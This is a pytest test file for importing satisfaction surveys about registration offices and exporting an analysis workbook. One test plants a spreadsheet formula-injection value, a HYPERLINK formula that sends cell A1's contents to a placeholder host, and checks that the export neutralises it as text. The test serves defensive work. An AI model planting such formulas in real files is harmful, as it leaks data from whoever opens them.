"""Importing survey results from .csv and .xlsx: good files, bad rows, a file twice, hostile text."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from sqlalchemy import func, select

from app.importing.problems import FileRefused
from app.roles import NotPermitted
from app.surveys import AVERAGE, DISSATISFIED, SATISFIED
from app.surveys.entry import IMPROVEMENT_LIMIT
from app.surveys.exports import export_survey_analysis
from app.surveys.importing import SurveyImportRefused, import_surveys
from db.models import AuditEntry, SatisfactionSurvey

HEADER = "网点,日期,年龄,服务环境,服务态度,办事效率,咨询答复,上班纪律,便民服务设施设备,总体印象,渠道,需要改善的方面"
GOOD = [
    "滨湖区不动产登记中心,2026-06-01,25岁以下,满意,1,一般,3,,不满意,满意,社区、网络,多开窗口",
    "滨湖区不动产登记中心,2026/6/2,2,1,1,1,1,1,1,1,电视报刊,",
    "滨湖区不动产登记中心,2026/6/2,2,1,1,1,1,1,1,1,电视报刊,",  # someone else answered alike
    "梁溪区不动产登记中心,2026年6月3日,51岁以上,一般,,,,,,,5,无",
]


def write_csv(path: Path, lines: list[str], header: str = HEADER) -> Path:
    path.write_text("\n".join([header, *lines]) + "\n", encoding="utf-8")
    return path


def count(session) -> int:
    return session.scalar(select(func.count()).select_from(SatisfactionSurvey))


def test_a_good_file_and_the_same_file_again(any_db, world, tmp_path):
    source = write_csv(tmp_path / "调查.csv", GOOD)
    with any_db.sessions.begin() as session:
        result = import_surveys(session, source, by_id=world.operator)
    assert (result.rows, result.added, result.unchanged) == (4, 4, 0)
    with any_db.sessions.begin() as session:
        first = session.scalars(select(SatisfactionSurvey).order_by(SatisfactionSurvey.id)).first()
        assert first.age_band == "under_25" and first.unit_id == world.binhu
        assert [first.environment, first.efficiency, first.consultation, first.discipline] == [
            SATISFIED,
            AVERAGE,
            DISSATISFIED,
            None,
        ]
        assert first.channels == ["community", "internet"] and first.improvement == "多开窗口"
        assert first.fingerprint and len(first.fingerprint) == 64
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "survey.imported")
        ).one()
        assert entry.after["added"] == 4
    with any_db.sessions.begin() as session:
        again = import_surveys(session, source, by_id=world.operator)
    assert (again.added, again.unchanged) == (0, 4)
    # One more sheet alike in a later file: the third alike row is new.
    write_csv(source, [*GOOD, GOOD[1]])
    with any_db.sessions.begin() as session:
        more = import_surveys(session, source, by_id=world.operator)
        assert (more.added, more.unchanged) == (1, 4)
        assert count(session) == 5


@pytest.mark.parametrize(
    ("line", "column", "words"),
    [
        ("无名网点,2026-06-01,1,1,,,,,,,,", "网点", "没有名为"),
        ("旧馆,2026-06-01,1,1,,,,,,,,", "网点", "已停用"),
        (",2026-06-01,1,1,,,,,,,,", "网点", "没有填写网点"),
        ("滨湖区不动产登记中心,2026-07-11,1,1,,,,,,,,", "日期", "晚于今天"),
        ("滨湖区不动产登记中心,不是日期,1,1,,,,,,,,", "日期", "不是日期"),
        ("滨湖区不动产登记中心,2026-06-01,9,1,,,,,,,,", "年龄", "无法识别"),
        ("滨湖区不动产登记中心,2026-06-01,1,很好,,,,,,,,", "服务环境", "无法识别"),
        ("滨湖区不动产登记中心,2026-06-01,1,1,,,,,,,广播,", "渠道", "不是了解渠道"),
        ("滨湖区不动产登记中心,2026-06-01,,,,,,,,,,", "", "空白"),
        (
            f"滨湖区不动产登记中心,2026-06-01,1,1,,,,,,,,{'慢' * (IMPROVEMENT_LIMIT + 1)}",
            "需要改善的方面",
            "超过",
        ),
    ],
)
def test_one_bad_row_refuses_the_whole_file(any_db, world, tmp_path, line, column, words):
    source = write_csv(tmp_path / "bad.csv", [GOOD[0], line, GOOD[3]])
    with pytest.raises(SurveyImportRefused) as refused, any_db.sessions.begin() as session:
        import_surveys(session, source, by_id=world.operator)
    (rejected,) = refused.value.rejected
    assert (rejected.line, rejected.column) == (3, column)
    assert words in rejected.reason
    assert "第 3 行" in str(refused.value)
    with any_db.sessions.begin() as session:
        assert count(session) == 0


def test_every_bad_row_is_reported(any_db, world, tmp_path):
    bad = ["无名网点,2026-06-01,1,1,,,,,,,,"] * 30
    source = write_csv(tmp_path / "bad.csv", bad)
    with pytest.raises(SurveyImportRefused) as refused, any_db.sessions.begin() as session:
        import_surveys(session, source, by_id=world.operator)
    assert len(refused.value.rejected) == 30
    assert "另有 10 处" in str(refused.value)


def test_files_that_are_not_survey_results(any_db, world, tmp_path):
    no_header = write_csv(tmp_path / "x.csv", ["1,2,3"], header="a,b,c")
    with pytest.raises(SurveyImportRefused, match="找不到表头"), any_db.sessions.begin() as session:
        import_surveys(session, no_header, by_id=world.operator)
    with pytest.raises(FileRefused), any_db.sessions.begin() as session:
        import_surveys(session, tmp_path / "missing.xlsx", by_id=world.operator)
    (tmp_path / "x.exe").write_bytes(b"MZ")
    with pytest.raises(FileRefused), any_db.sessions.begin() as session:
        import_surveys(session, tmp_path / "x.exe", by_id=world.operator)
    with pytest.raises(NotPermitted), any_db.sessions.begin() as session:
        import_surveys(session, write_csv(tmp_path / "g.csv", GOOD), by_id=world.auditor)


def test_a_formula_looking_wish_comes_out_of_the_excel_export_inert(any_db, world, tmp_path):
    hostile = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'
    source = tmp_path / "结果.xlsx"
    book = xlsxwriter.Workbook(str(source))
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER.split(","))
    sheet.write_row(
        1,
        0,
        ["滨湖区不动产登记中心", "2026-05-20", "1", "满意", "", "", "", "", "", "满意", "网络"],
    )
    sheet.write_string(1, 11, hostile)
    book.close()
    with any_db.sessions.begin() as session:
        assert import_surveys(session, source, by_id=world.operator).added == 1
    target = tmp_path / "分析.xlsx"
    with any_db.sessions.begin() as session:
        export_survey_analysis(session, 2026, 2, target, by_id=world.operator, form="xlsx")
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "data.export")).one()
        assert entry.after["what"] == "survey_analysis" and entry.after["period"] == "2026-Q2"
    with zipfile.ZipFile(target) as archive:
        sheets = [
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        ]
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert not any("<f>" in xml for xml in sheets)  # no formula anywhere
    assert "HYPERLINK" in strings  # the wish is there, as text
